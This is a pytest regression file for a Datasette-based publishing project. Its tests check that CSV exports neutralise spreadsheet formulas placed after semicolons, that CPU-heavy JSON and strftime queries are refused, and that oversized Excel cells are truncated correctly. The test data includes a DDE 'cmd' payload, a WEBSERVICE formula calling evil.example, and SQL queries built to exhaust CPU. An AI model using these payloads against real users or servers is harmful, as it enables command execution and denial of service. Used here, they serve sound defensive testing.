"""Issue 24, round eighteen, helper r18a (class 5, exports; class 1, markup): what a fresh attack on the exports
found, each pinned by a test that fails without its fix."""

from __future__ import annotations

import csv
import io
import sqlite3
import urllib.parse
from pathlib import Path
from typing import Any

import pytest

from tests.test_attacks import _datasette_get


def _served(db: Path, path: str) -> Any:
    from datasette.app import Datasette

    from analysis.publish.database import PLUGINS_DIR, SETTINGS
    from tests.event_loop import run_apart

    ds = Datasette([str(db)], plugins_dir=str(PLUGINS_DIR), settings=SETTINGS)
    response = run_apart(ds.client.get(path))
    assert response.status_code == 200, response.text[:300]
    return response


# --- Datasette: no formula after a semicolon in a CSV the server hands out (class 5, exports) ----------------------

#: A query's cells with a formula after a semicolon. Datasette quotes a cell only for a comma, quote or line end, so
#: the first went out unquoted, and Excel set to a semicolon list separator (most of Europe) split it there and
#: opened "-2+3+cmd|' /C calc'!A0" as a cell of its own: a DDE command, under the project's name.
AFTER_SEMICOLON = {"a": "Revised;-2+3+cmd|' /C calc'!A0", "b": "Figures; =WEBSERVICE(\"http://evil.example/\")",
                   "c": "x;@SUM(1)", "d": "Down; -5% on the year", "e": "-0.5"}


def test_a_formula_after_a_semicolon_in_a_query_csv_is_sent_as_text(tmp_path: Path) -> None:
    from analysis.record.hygiene import AFTER_SEPARATOR_FORMULA

    db = tmp_path / "cse.db"
    sqlite3.connect(db).close()
    select = ", ".join(f"'{v.replace(chr(39), chr(39) * 2)}' as {k}" for k, v in AFTER_SEMICOLON.items())
    got = _served(db, "/cse.csv?" + urllib.parse.urlencode({"sql": f"select {select}", "_dl": "1"}))
    header, row = list(csv.reader(io.StringIO(got.text)))
    assert header == list(AFTER_SEMICOLON)
    # Split as a semicolon-separator spreadsheet splits the line: no part starts a formula.
    for cell in got.text.splitlines()[1].split(";")[1:]:
        assert not cell.lstrip().startswith(("=", "+", "-", "@")) or cell.startswith(" -5%"), got.text
    assert not any(AFTER_SEPARATOR_FORMULA.search(cell) for cell in row), row
    # A fall written "; -5%" and a negative number are left as Datasette wrote them.
    assert row[3:] == ["Down; -5% on the year", "-0.5"]


# --- Datasette: the 1 s limit holds for calls in one row (class 5, exports) ----------------------------------------

#: A 96 KB JSON array (three copies of 16,000 "1,", each a `replace` within the bounded functions' budget).
_JSON_ROW = ("with r(y) as (select replace(hex(zeroblob(16000)), '00', '1,')), "
             "t(x) as (select '[' || y || y || y || '1]' from r) select ")
#: One call of each function that parses a JSON value and writes it out again: 1.5–1.6 ms each on that array, never
#: interrupted within a row, so 700 `json(x)` in one 10 KB GET ran 3.5 s of CPU past the 1 s limit.
JSON_REWRITES = ["json(x)", "json_set(x, '$[0]', 2)", "json_insert(x, '$[#]', 2)", "json_replace(x, '$[0]', 2)",
                 "json_remove(x, '$[0]')"]


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
@pytest.mark.parametrize("call", JSON_REWRITES)
def test_datasette_refuses_a_json_function_that_rewrites_a_value(small_db: Path, call: str) -> None:
    got = _datasette_get(small_db, f"{_JSON_ROW}length({call}) as n from t")
    assert got["status"] >= 400 and "not authorized" in got["text"], got["text"][:200]


def test_the_json_functions_that_read_a_value_in_one_pass_still_answer(small_db: Path) -> None:
    """What reads a value's parts (its type, length, validity, items, one element) is not refused."""
    got = _datasette_get(small_db, f"{_JSON_ROW}json_type(x) as a, json_array_length(x) as b, json_valid(x) as c, "
                                   "(select count(*) from json_each('[1,2,3]')) as d, x ->> '$[0]' as e, "
                                   "json_extract(x, '$[1]') as f from t")
    assert got["status"] == 200, got["text"][:200]
    assert got["text"] == '[{"a": "array", "b": 48001, "c": 1, "d": 3, "e": 1, "f": 1}]'


def test_json_lines_asked_for_with_a_stray_csv_format_stay_json(tmp_path: Path) -> None:
    """The path's ".json" decides the format (Datasette answers JSON lines as text/plain); the CSV plugin read the
    body as CSV, found "=1+1" after a comma inside a JSON string and rewrote every line into invalid JSON."""
    import json

    db = tmp_path / "cse.db"
    sqlite3.connect(db).close()
    query = {"sql": "select 'a,=1+1' as n, 'plain' as m", "_shape": "array", "_nl": "on", "_format": "csv"}
    got = _served(db, "/cse.json?" + urllib.parse.urlencode(query))
    assert [json.loads(line) for line in got.text.splitlines()] == [{"n": "a,=1+1", "m": "plain"}]


# --- the workbook: a cell cut to fit says so, whatever its characters (class 5, exports) ---------------------------


@pytest.mark.parametrize("text", ["\U0001F600" * 20_000, "a" * 32_000 + "\U0001F4CA" * 1_000, "x" * 40_000],
                         ids=["emoji", "text then emoji", "plain"])
def test_a_cell_too_long_for_excel_keeps_its_cut_note_in_the_workbook(tmp_path: Path, text: str) -> None:
    """Excel and XlsxWriter count a cell's 32,767 characters in UTF-16 units (an emoji is two): the project cut
    at 32,767 Python characters, XlsxWriter cut again at its limit, and the note saying where the full text is went."""
    import openpyxl
    import xlsxwriter

    from analysis.publish.workbook_sheets import CUT_NOTE, EXCEL_CELL_MAX, cell_text, excel_length

    path = tmp_path / "cut.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        book.add_worksheet().write_string(0, 0, cell_text(text))
    got = openpyxl.load_workbook(path).active["A1"].value
    assert got.endswith(CUT_NOTE) and excel_length(got) <= EXCEL_CELL_MAX
    assert text.startswith(got[:-len(CUT_NOTE)]) and excel_length(got) > EXCEL_CELL_MAX - 2  # no shorter than needed


# --- Datasette: strftime's work is its format's (class 5, exports) -------------------------------------------------

#: A 96 KB format of "%J" (each a Julian day number to write): 12.9 ms a call, never interrupted within a row, so 300
#: calls in one 7 KB GET ran 4.9 s of CPU past the 1 s limit.
_LONG_FORMAT = ("with r(y) as (select replace(hex(zeroblob(16000)), '00', '%J')), t(x) as (select y || y || y from r) "
                "select ")


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
@pytest.mark.parametrize("call", ["strftime(x, 0)", "strftime(x, 'now', '+1 day')", "strftime(x)"])
def test_datasette_refuses_strftime_with_a_format_longer_than_any_date_needs(small_db: Path, call: str) -> None:
    got = _datasette_get(small_db, f"{_LONG_FORMAT}length({call}) as n from t")
    assert got["status"] >= 400 and "raised exception" in got["text"], got["text"][:200]


def test_strftime_with_a_date_format_answers_as_sqlite_does(small_db: Path) -> None:
    got = _datasette_get(small_db, "select strftime('%Y-%m-%d %H:%M', '2016-11-24 10:30') as a, "
                                   "strftime('%J', '2016-11-24') as b, strftime('%Y', '2016-11-24', '+2 months') as c, "
                                   "strftime(null, 0) as d, length(strftime('%Y', 'now')) as e")
    assert got["status"] == 200, got["text"][:200]
    assert got["text"] == '[{"a": "2016-11-24 10:30", "b": "2457716.5", "c": "2017", "d": null, "e": 4}]'
